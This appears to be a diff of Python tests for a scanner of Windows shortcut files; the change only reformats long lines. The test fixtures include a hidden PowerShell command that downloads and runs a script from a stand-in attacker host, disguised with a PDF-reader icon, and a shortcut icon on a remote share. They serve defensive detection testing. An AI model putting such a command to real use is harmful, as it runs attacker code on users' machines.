@@ -13,7 +13,9 @@ POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
 
 
 def test_a_command_that_fetches() -> None:
-    found = ask(SCANNER, shortcut(POWERSHELL, "-w hidden -c iwr https://evil.test/a.ps1 | iex", "C:\\a\\AcroRd32.exe"))
+    found = ask(
+        SCANNER, shortcut(POWERSHELL, "-w hidden -c iwr https://evil.test/a.ps1 | iex", "C:\\a\\AcroRd32.exe")
+    )
     told = signs(found)
     assert told["shortcut-command"] == f"{POWERSHELL} -w hidden -c iwr https://evil.test/a.ps1 | iex"
     assert told["shortcut-tool"] == "powershell"
@@ -36,7 +38,9 @@ def test_a_target_on_a_share() -> None:
 
 def test_an_icon_on_a_share() -> None:
     found = ask(SCANNER, shortcut("C:\\a.txt", icon="\\\\203.0.113.5\\s\\i.ico"))
-    assert [(each.url, each.how) for each in found.references] == [("\\\\203.0.113.5\\s\\i.ico", "shortcut icon")]
+    assert [(each.url, each.how) for each in found.references] == [
+        ("\\\\203.0.113.5\\s\\i.ico", "shortcut icon")
+    ]
 
 
 def test_what_the_environment_says_goes_first() -> None:
